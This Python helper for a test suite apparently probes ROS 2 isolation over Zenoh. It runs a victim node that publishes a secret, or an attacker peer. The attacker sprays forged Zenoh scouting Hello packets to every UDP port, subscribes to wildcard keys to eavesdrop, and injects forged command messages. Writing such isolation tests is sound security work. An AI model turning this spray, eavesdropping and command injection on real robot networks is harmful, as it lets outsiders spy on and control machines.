"""What `test_reach.py` starts: `reach_peers.py victim`, `… attacker <uid> <means> …`, `… router <uid>`.

Each prints one JSON text a line. The victim is a node like any other; the attacker speaks Zenoh without ROS.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import threading  # here: another user, whom `attack` may become, cannot read this interpreter's files
import time
from typing import Any

import zenoh

ATTACKER_ID = "1234567890abcdef1234567890abcdef"
PORT = 7777
KEYS = ("**", "@ros2_lv/**", "**/@adv/**")


def say(value: Any) -> None:
    """Tell the test."""
    sys.stdout.write(json.dumps(value) + "\n")
    sys.stdout.flush()


def victim() -> None:
    """Publish a secret, obey commands, until the input ends."""

    from std_msgs.msg import String

    import rclpy
    from rclpy.executors import SingleThreadedExecutor
    from rclpy.node import Node

    rclpy.init(args=[])
    node = Node("victim")
    publisher = node.create_publisher(String, "/secret", 10)
    subscription = node.create_subscription(String, "/command", lambda message: say(message.data), 10)
    node.create_timer(0.1, lambda: publisher.publish(String(data="secret")))
    executor = SingleThreadedExecutor()
    executor.add_node(node)
    threading.Thread(target=executor.spin, daemon=True).start()
    say(subscription._endpoint.key)
    sys.stdin.read()
    os._exit(0)


def hello(identity: str, locator: str) -> bytes:
    """A Hello of Zenoh's scouting protocol, version 9: a peer of that id is to be found at the locator."""
    text = locator.encode()
    zid = bytes.fromhex(identity)[::-1]  # on the wire the id is little endian
    flags = struct.pack("BBB", 0x02 | 0x20, 9, (len(zid) - 1) << 4 | 0b01)
    return flags + zid + bytes([1, len(text)]) + text


def spray(target: str, payload: bytes, rounds: int = 2) -> None:
    """Send a datagram to every UDP port of a host."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(rounds):
            for port in range(1024, 65536):
                try:
                    sender.sendto(payload, (target, port))
                except OSError:  # a full queue, or the refusal of an earlier port
                    time.sleep(0.0005)
                if port % 512 == 0:
                    time.sleep(0.002)


def session(own: str, settings: dict[str, Any]) -> zenoh.Session:
    """A bare peer that listens on its own address."""
    config = zenoh.Config()
    for key, value in {
        "id": ATTACKER_ID,
        "listen/endpoints": [f"tcp/{own}:{PORT}"],
        "scouting/multicast/enabled": False,
        "connect/exit_on_failure": False,
        **settings,
    }.items():
        config.insert_json5(key, json.dumps(value))
    return zenoh.open(config)


def attack(means: str, own: str, target: str, command_key: str, *ports: str) -> None:
    """Try to see and to command the victim; says how many samples and tokens came.

    Args:
        means: "hello" (forged ones, to every port), "search" (multicast), "socket" (a path), or "all" of the
            first two, and connecting to the ports.
        own: address of the attacker.
        target: address, or path of a socket, of the victim.
        command_key: to which commands are sent.
        ports: TCP ports of the victim.
    """
    seen: list[str] = []
    settings: dict[str, Any] = {"connect/endpoints": [f"tcp/{target}:{port}" for port in ports]}
    if means in ("search", "all"):
        settings |= {"scouting/multicast/enabled": True, "scouting/multicast/interface": "auto"}
    elif means == "socket":
        settings["connect/endpoints"] = [f"unixsock-stream/{target}"]
    attacker = session(own, settings)

    def on_sample(sample: zenoh.Sample) -> None:
        if str(sample.key_expr) != command_key:  # its own
            seen.append(str(sample.key_expr))

    subscribers = [attacker.declare_subscriber(key, on_sample) for key in KEYS]
    token = attacker.liveliness().declare_subscriber(KEYS[1], on_sample, history=True)
    if means in ("hello", "all"):
        spray(target, hello(str(attacker.zid()), f"tcp/{own}:{PORT}"))
    payload = b"\x00\x01\x00\x00" + struct.pack("<I", 7) + b"attack\x00"
    for number in range(60):
        attachment = struct.pack("<qqB16s", number + 1, time.time_ns(), 16, b"a" * 16)
        attacker.put(command_key, payload, attachment=attachment)
        time.sleep(0.05)
    say({"seen": len(seen), "example": seen[:1]})
    del subscribers, token
    os._exit(0)


def route() -> None:
    """Run a router on 127.0.0.1:7447, as programs on another ROS 2 need it, until the input ends."""
    listen = {"mode": "router", "listen/endpoints": ["tcp/127.0.0.1:7447"], "id": "ab" * 16}
    router = session("", listen)
    say(str(router.zid()))
    sys.stdin.read()
    os._exit(0)


def become(uid: int) -> None:
    """Give up this user's rights for those of another."""
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)


if __name__ == "__main__":
    role, *rest = sys.argv[1:]
    if role == "victim":
        victim()
    else:
        user, *rest = rest
        if int(user):
            become(int(user))
        attack(*rest) if role == "attacker" else route()
